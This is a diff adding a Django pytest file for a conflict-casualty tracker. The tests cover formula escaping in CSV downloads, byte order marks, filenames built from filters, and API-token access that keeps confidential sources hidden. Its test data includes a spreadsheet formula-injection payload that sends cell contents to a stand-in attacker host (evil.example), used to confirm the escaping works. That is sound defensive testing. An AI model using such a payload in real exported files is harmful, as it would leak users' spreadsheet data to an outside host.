@@ -1,0 +1,201 @@
+"""The downloads as Excel and scripts meet them: formulas kept inert, a byte order mark, names that say
+what was filtered, real dates and filters in the workbook, and the API token instead of a login."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from rest_framework.authtoken.models import Token
+
+from tests.accounts import make_confidant, make_reader, make_user
+from tests.factories import make_claim, make_event, make_party, make_source
+from tests.helpers import claim_row, csv_bytes
+from tracker.exports.formulas import formula_escaped, formula_unescaped
+from tracker.ingest.importer import file_import
+from tracker.models import Claim, Event, Party, Source
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-5 disputed", "@SUM(A1)", "'=quoted"]
+
+
+def table(content: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def spreadsheet_would_run(cell: str) -> bool:
+    """Whether a spreadsheet program would take this CSV cell as a formula (a plain number is a number)."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(
+    "text", [*FORMULAS, "\tindented", "\rreturn", "", "plain", "'", "''=x", "-33.5", "12", "-", "a=b"]
+)
+def test_escaping_a_cell_is_undone_exactly(text):
+    assert formula_unescaped(formula_escaped(text)) == text
+    assert not spreadsheet_would_run(formula_escaped(text))
+
+
+@pytest.mark.parametrize("text", ["-33.5", "12", "0", "+7"])
+def test_a_number_is_written_as_it_is(text):
+    assert formula_escaped(text) == text
+
+
+@pytest.fixture
+def reader(client):
+    client.force_login(make_reader())
+    return client
+
+
+@pytest.fixture
+def confidant(client):
+    client.force_login(make_confidant())
+    return client
+
+
+def formula_event():
+    event = make_event(ref="SYR-F-1", title=FORMULAS[0], location_name="@Raqqa", country="SY",
+                       latitude="-33.500000", longitude="-70.250000")  # fmt: skip
+    for number, text in enumerate(FORMULAS):
+        make_claim(event, make_party(name=f"{text} party {number}"), count=number, notes=text, wording=f"{number}",
+                   source=make_source(title=text))  # fmt: skip
+    return event
+
+
+def test_no_cell_of_a_csv_download_runs_as_a_formula(confidant):
+    formula_event()
+    for url in (reverse("event_claims_download", args=["csv"]), reverse("event_download", args=["csv"])):
+        rows = table(confidant.get(url, {"hxl": "1"}).content)
+        cells = [cell for row in rows for cell in row.values()]
+        assert cells and not [cell for cell in cells if spreadsheet_would_run(cell)]
+    claims = table(confidant.get(reverse("event_claims_download", args=["csv"])).content)
+    assert {row["latitude"] for row in claims} == {"-33.500000"}  # numbers stay numbers
+    assert {row["best"] for row in claims} == {str(number) for number in range(len(FORMULAS))}
+
+
+def test_a_claims_download_imports_back_exactly(confidant):
+    formula_event()
+    before = sorted(Claim.objects.values_list("party__name", "notes", "source__title", "event__title"))
+    download = confidant.get(reverse("event_claims_download", args=["csv"])).content
+    assert download.startswith(b"\xef\xbb\xbf")
+    Claim.objects.all().delete(), Event.objects.all().delete(), Source.objects.all().delete()
+    Party.objects.all().delete()
+
+    report = file_import(file=io.BytesIO(download), name="claims.csv")
+
+    assert report.ok, report.errors
+    assert sorted(Claim.objects.values_list("party__name", "notes", "source__title", "event__title")) == before
+    assert confidant.get(reverse("event_claims_download", args=["csv"])).content == download
+
+
+def test_the_export_commands_escape_formulas_too(tmp_path):
+    formula_event()
+    from django.core.management import call_command
+
+    for command in ("export_claims", "export_discrepancies"):
+        stdout = io.StringIO()
+        call_command(command, "--format", "csv", stdout=stdout)
+        cells = [cell for row in csv.reader(io.StringIO(stdout.getvalue())) for cell in row]
+        assert FORMULAS[0] not in cells and "'" + FORMULAS[0] in cells
+
+
+def test_a_hand_made_file_keeps_a_leading_quote_before_plain_text():
+    report = file_import(file=io.BytesIO(csv_bytes([claim_row(notes="'Quoted' in the press")])), name="claims.csv")
+    assert report.ok, report.errors
+    assert Claim.objects.get().notes == "'Quoted' in the press"
+
+
+@pytest.mark.parametrize(
+    "name, params, filename",
+    [
+        ("event_download", {}, "events-all.csv"),
+        ("event_download", {"country": "SY", "level": "major", "date_from": "2017-01-01", "date_to": "2017-12-31"},
+         "events-syria-major-2017.csv"),
+        ("event_download", {"country": "SY", "level": "major", "hxl": "1"}, "events-syria-major-hxl.csv"),
+        ("event_download", {"level": ["minor", "denial"], "date_from": "2017-03-01"},
+         "events-denial-minor-from-2017-03-01.json"),
+        ("event_download", {"min_ratio": "1.5", "q": "Hajin informant", "classification_dispute": "true"},
+         "events-disputed-ratio-1.5-search.xlsx"),
+        ("event_claims_download", {"country": "IQ", "category": "civilian", "event_type": "airstrike"},
+         "claims-iraq-airstrike-civilian.csv"),
+    ],
+)  # fmt: skip
+def test_a_download_is_named_after_its_filters(reader, name, params, filename):
+    response = reader.get(reverse(name, args=[filename.rsplit(".", 1)[1]]), params)
+    assert response.status_code == 200
+    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
+
+
+def test_a_download_name_is_bounded_and_never_names_what_was_searched(reader):
+    party = make_party(name="Syrian Observatory for Human Rights and Associated Local Coordination Committees " * 3)
+    params = {"country": "SY", "level": ["denial", "major", "minor", "single", "agree"], "party": party.pk,
+              "event_type": "airstrike", "category": "combatant", "date_from": "2016-02-03", "date_to": "2019-11-30",
+              "q": "informant Abu Khalid"}  # fmt: skip
+    response = reader.get(reverse("event_download", args=["csv"]), {**params, "hxl": "1"})
+    filename = response["Content-Disposition"].split('filename="')[1].rstrip('"')
+    assert filename.startswith("events-syria-agree-denial-major-minor-single-airstrike-combatant-party-syrian")
+    assert filename.endswith("-hxl.csv") and len(filename) <= 130
+    assert "khalid" not in filename and "informant" not in filename
+
+
+def test_a_download_starts_with_a_byte_order_mark_for_excel(reader):
+    make_claim(count=3)
+    for name in ("event_download", "event_claims_download"):
+        assert reader.get(reverse(name, args=["csv"])).content.startswith("\ufeff".encode())
+        assert not reader.get(reverse(name, args=["xlsx"])).content.startswith("\ufeff".encode())
+
+
+def test_a_script_downloads_with_the_api_token(client):
+    secret = make_source(title="Informant in Hajin", confidential=True)
+    make_claim(make_event(ref="SYR-T-1"), source=secret, notes="told by Abu Khalid")
+    token = Token.objects.create(user=make_reader())
+    authorization = {"HTTP_AUTHORIZATION": f"Token {token.key}"}
+    for name in ("event_download", "event_claims_download"):
+        for format in ("csv", "xlsx", "json"):
+            if name == "event_claims_download" and format == "json":
+                continue
+            response = client.get(reverse(name, args=[format]), **authorization)
+            assert response.status_code == 200, (name, format)
+    claims = table(client.get(reverse("event_claims_download", args=["csv"]), **authorization).content)
+    assert [(row["source_title"], row["notes"]) for row in claims] == [("Confidential source", "")]
+
+
+def test_a_confidant_token_sees_what_the_confidant_sees(client):
+    secret = make_source(title="Informant in Hajin", confidential=True)
+    make_claim(make_event(ref="SYR-T-1"), source=secret, notes="told by Abu Khalid")
+    token = Token.objects.create(user=make_confidant())
+    response = client.get(reverse("event_claims_download", args=["csv"]), HTTP_AUTHORIZATION=f"Token {token.key}")
+    assert [(row["source_title"], row["notes"]) for row in table(response.content)] == [
+        ("Informant in Hajin", "told by Abu Khalid")
+    ]
+
+
+@pytest.mark.parametrize("header", ["Token not-a-real-key", "Token", "token abc def"])
+def test_a_script_with_a_bad_token_gets_401_not_a_login_page(client, header):
+    make_claim(count=3)
+    response = client.get(reverse("event_download", args=["csv"]), HTTP_AUTHORIZATION=header)
+    assert response.status_code == 401
+    assert response["WWW-Authenticate"] == "Token"
+    assert b"ref," not in response.content
+
+
+def test_a_browser_without_a_session_is_still_sent_to_the_login_page(client):
+    response = client.get(reverse("event_download", args=["csv"]))
+    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
+
+
+def test_a_token_of_a_user_without_the_viewer_role_gets_403(client):
+    token = Token.objects.create(user=make_user("outsider"))
+    response = client.get(reverse("event_download", args=["csv"]), HTTP_AUTHORIZATION=f"Token {token.key}")
+    assert response.status_code == 403
+
+
+def test_a_token_of_an_inactive_user_gets_401(client):
+    token = Token.objects.create(user=make_reader(is_active=False))
+    response = client.get(reverse("event_download", args=["csv"]), HTTP_AUTHORIZATION=f"Token {token.key}")
+    assert response.status_code == 401
